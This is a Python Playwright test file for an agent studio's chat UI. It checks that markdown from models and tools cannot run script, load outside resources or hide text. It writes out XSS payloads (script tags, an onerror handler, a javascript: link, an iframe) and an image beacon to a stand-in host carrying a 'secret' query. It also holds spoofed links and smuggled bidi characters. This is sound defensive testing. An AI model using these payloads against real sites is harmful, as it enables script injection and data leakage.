"""What models and tools say does nothing to the page, however it is written."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import cast

import httpx
import pytest
from playwright.sync_api import Page, Request, expect
from pydantic import JsonValue

from studio.components import JsonObject
from tests.browser.conftest import MakeTeam, OpenPage
from tests.browser.playing import MESSAGES, agent, expect_end, give_task, round_robin
from tests.fakes.openai_server import Call, OpenAIServer, Reply
from tests.web.documents import function_tool

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(90)]

ELSEWHERE = "elsewhere.test"
MARKDOWN = f"""<img src=x onerror="document.title='taken'"><script>document.title='taken'</script>

![a picture](https://{ELSEWHERE}/p.png?q=secret) ![svg](data:image/svg+xml;base64,PHN2Zy8+)
[studio.example](https://user@{ELSEWHERE}/a) [slash](/\\{ELSEWHERE}/b) [script](javascript:document.title='taken')
<iframe src="https://{ELSEWHERE}"></iframe> <style>body {{ display: none }}</style> \u202eback
"""
TOOL = "def shout(text: str) -> str:\n    return " + repr(MARKDOWN) + "\n"


def asked_elsewhere(page: Page) -> list[str]:
    asked: list[str] = []

    def note(request: Request) -> None:
        if ELSEWHERE in request.url:
            asked.append(request.url)

    page.on("request", note)
    return asked


def test_nothing_that_a_model_or_a_tool_says_acts_on_the_page(
    open_page: OpenPage, openai_server: OpenAIServer, api: httpx.Client, make_team: MakeTeam, tmp_path: Path
) -> None:
    call = Call("shout", {"text": "if admin:\u2066 pass\u200b"})
    openai_server.say(Reply(calls=[call]), MARKDOWN)
    page = open_page(is_new=True)
    asked = asked_elsewhere(page)
    give_task(page, make_team(round_robin(teller(openai_server.url), message_count=2)), MARKDOWN)
    expect_end(page)
    message = page.locator(MESSAGES).last
    expect(message).to_contain_text("<script>document.title='taken'</script>")
    expect(message.locator(".prose .hidden-character")).to_have_text(["U+202E"])
    link = message.locator(".prose a[href]")
    expect(link).to_have_count(1)
    expect(link).to_have_attribute("data-host", ELSEWHERE)
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    tool = page.locator(".tool-call").first
    tool.locator("summary").click()
    expect(tool.locator("pre").first).to_contain_text("if admin:\\u2066 pass\\u200b")
    expect(tool.locator("pre").last).to_contain_text("⟨U+202E⟩back")
    run_id = page.url.rsplit("/", 1)[1]
    file = tmp_path / "run.html"
    file.write_text(api.get(f"/api/runs/{run_id}/bundle").text)
    for address in (page.url, f"{page.url}/share", f"{api.base_url}/inbox", file.as_uri()):
        page.goto(address)
        assert page.title() != "taken"
        assert page.locator(f"img[src*='{ELSEWHERE}'], iframe, a[href^=javascript], article script").count() == 0
    expect(page.get_by_text("<script>document.title='taken'</script>").first).to_be_attached()
    assert asked == []


def teller(model_url: str) -> JsonObject:
    model: JsonObject = {
        "provider": "autogen_ext.models.openai.OpenAIChatCompletionClient",
        "config": {"model": "gpt-4o", "base_url": model_url, "api_key": "test-key", "max_retries": 0},
    }
    made = agent("teller", model)
    config = cast("dict[str, JsonValue]", made["config"])
    config |= {"tools": [function_tool(TOOL)], "reflect_on_tool_use": True, "system_message": MARKDOWN}
    return made


def test_a_message_of_a_million_characters_does_not_stop_the_page(
    open_page: OpenPage, openai_server: OpenAIServer, pair: Callable[[int], str]
) -> None:
    openai_server.say(Reply("x" * 1_000_000))
    page = open_page()
    give_task(page, pair(2))
    expect_end(page)
    expect(page.locator(MESSAGES).last).to_contain_text("more characters are in the log")
    page.get_by_role("textbox", name="Task").first.fill("It still works.")


def test_a_message_of_a_million_characters_is_cut_while_it_is_written(
    open_page: OpenPage, openai_server: OpenAIServer, pair: Callable[[int], str]
) -> None:
    openai_server.say(Reply("x" * 1_000_000 + " the end", hold=1))
    page = open_page()
    give_task(page, pair(2))
    message = page.locator(MESSAGES).last
    expect(message).to_contain_text("x" * 1000)
    assert len(message.text_content() or "") < 300_000
    openai_server.release()
    expect_end(page)
    expect(message).to_contain_text("more characters are in the log")
